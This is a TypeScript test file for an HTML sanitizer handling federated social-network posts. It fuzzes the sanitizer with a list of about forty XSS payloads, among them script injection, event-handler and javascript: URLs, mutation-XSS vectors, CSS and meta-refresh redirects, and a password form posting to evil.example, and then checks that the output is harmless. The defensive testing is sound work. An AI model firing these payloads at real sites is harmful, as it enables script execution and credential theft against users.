import assert from "node:assert/strict";
import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { contentOf, htmlOfText, sanitize, summaryOf } from "./mod.ts";

/** Each tries to run something, to load something that is not wanted, or to leave its place. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">x</a>',
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="background:url(https://evil.example/)">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src=x>',
  '<form action="https://evil.example/"><input name=password><button>go</button></form>',
  '<video src=x onerror=alert(1)></video><audio autoplay src="https://evil.example/a"></audio>',
  "<details open ontoggle=alert(1)>x</details>",
  "<template><script>alert(1)</script></template>",
  '<p id="location" name="cookie" class="navbar fixed admin">x</p>',
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xss onpointerover=alert(1) contenteditable autofocus tabindex=1>x</xss>",
  '<a href="https://ok.example/" target="_blank" ping="https://evil.example/" download>x</a>',
  "<p>\u0000<scr\u0000ipt>alert(1)</script>",
  "</p></div></main><p>out of its place",
];

const TAGS = new Set(
  ("p br span a del ins s u strong b em i q code pre kbd samp var sub sup small mark abbr blockquote " +
    "ul ol li dl dt dd hr div h1 h2 h3 h4 h5 h6 table caption thead tbody tfoot tr th td details " +
    "summary ruby rt rp img").split(" "),
);
const ATTRIBUTES = new Set(
  ("lang dir href rel title start reversed type value colspan rowspan scope class src alt width " +
    "height loading referrerpolicy").split(" "),
);

type Node = DefaultTreeAdapterTypes.Node;

/** Looks at the result as a browser would: which elements there are, with which attributes. */
function assertHarmless(html: string): void {
  const nodes: Node[] = [...parseFragment(html).childNodes];
  for (let node = nodes.pop(); node; node = nodes.pop()) {
    assert.ok(node.nodeName !== "#comment", html);
    if (!("attrs" in node)) continue;
    assert.ok(TAGS.has(node.nodeName), `<${node.nodeName}> in ${html}`);
    const attributes = new Map(node.attrs.map(({ name, value }) => [name, value]));
    for (const [name, value] of attributes) {
      assert.ok(ATTRIBUTES.has(name), `${name} in ${html}`);
      if (name === "href") assertAddress(value, ["http:", "https:", "mailto:"]);
      if (name === "src") assertAddress(value, ["http:", "https:"]);
      if (name === "class") assert.doesNotMatch(value, /navbar|fixed|admin/);
    }
    if (node.nodeName === "a") assert.match(attributes.get("rel") ?? "", /nofollow noopener/);
    if (node.nodeName === "img") assert.equal(attributes.get("referrerpolicy"), "no-referrer");
    nodes.push(...node.childNodes);
  }
  assertStaysInPlace(html);
}

/** Where a browser would go from a page of ours; an address that cannot be read leads nowhere. */
function assertAddress(value: string, schemes: readonly string[]): void {
  const url = URL.parse(value, "ours://here.example/");
  if (url === null || url.href.startsWith("ours://here.example/")) return;
  assert.ok(schemes.includes(url.protocol) && /^\s*[a-z]+:/i.test(value), value);
}

/** What stands behind it is not drawn into it, and what it stands in is not closed by it. */
function assertStaysInPlace(html: string): void {
  const [main, footer] = parseFragment(`<main>${html}</main><footer>x</footer>`).childNodes;
  assert.deepEqual([main?.nodeName, footer?.nodeName], ["main", "footer"], html);
}

Deno.test("no attack leaves an element, an attribute or an address that could act", () => {
  for (const attack of ATTACKS) {
    assertHarmless(sanitize(attack));
    assertHarmless(sanitize(`<p>before ${attack} after</p>`));
    assert.equal(sanitize(sanitize(attack)), sanitize(attack), attack);
  }
});

Deno.test("pieces of attacks in any order leave nothing either, cleaned once or twice", () => {
  const pieces = fc.constantFrom(
    ...ATTACKS.flatMap((attack) => attack.split(/(?<=[<>"=])/)),
    ..."<>\"'/= &;\n".split(""),
    "<p>",
    "</p>",
    "<a href=",
    "https://ok.example/",
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
      const once = sanitize(parts.join(""));
      assertHarmless(once);
      assertHarmless(sanitize(once));
    }),
    { numRuns: 500 },
  );
});

Deno.test("what people of the network write stays as it is", () => {
  for (
    const html of [
      '<p><span class="h-card"><a href="https://a.example/@ann" class="u-url mention" rel="nofollow noopener noreferrer ugc">@<span>ann</span></a></span> hi</p>',
      '<blockquote><p>quoted</p></blockquote><pre><code class="language-ts">a &lt; b</code></pre>',
      "<details><summary>spoiler</summary><p>it ends</p></details>",
      '<ol start="3"><li value="4">x</li></ol>',
      '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
      '<p lang="ja" dir="ltr"><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>',
    ]
  ) assert.equal(sanitize(html), html);
  assert.equal(
    sanitize('<img src="https://a.example/1.png" alt="a cat">'),
    '<img src="https://a.example/1.png" alt="a cat" loading="lazy" referrerpolicy="no-referrer" />',
  );
  assert.equal(
    sanitize('<p>x<img src="https://a.example/1.png"></p>', { images: false }),
    "<p>x</p>",
  );
});

Deno.test("length and depth are bounded", () => {
  const deep = sanitize("<div>".repeat(100_000) + "x");
  assert.ok(deep.length < 1000, `${deep.length}`);
  assert.ok(sanitize("a".repeat(2_000_000)).length <= 100_000);
  assert.equal(sanitize("abc", { longest: 2 }), "ab");
});

Deno.test("content is HTML unless its media type says otherwise, in the language that is asked for", () => {
  const contentMap = { en: "<b>hi</b>", eo: "<b>saluton</b>" };
  assert.equal(contentOf({ contentMap }, { languages: ["eo"] }), "<b>saluton</b>");
  assert.equal(
    contentOf({ content: "<b>x</b>", mediaType: "text/html; charset=utf-8" }),
    "<b>x</b>",
  );
  const markdown = { content: "**x** <b>", mediaType: "text/markdown" };
  assert.equal(contentOf(markdown), "<p>**x** &lt;b&gt;</p>");
  assert.equal(contentOf({ name: "no content" }), undefined);
  assert.equal(contentOf({ content: 5 }), undefined);
  assert.equal(summaryOf({ summary: "<i>CW</i><script>x</script>" }), "<i>CW</i>");
  assert.equal(htmlOfText("a\r\nb\n\n\n<c>"), "<p>a<br>b</p><p>&lt;c&gt;</p>");
});
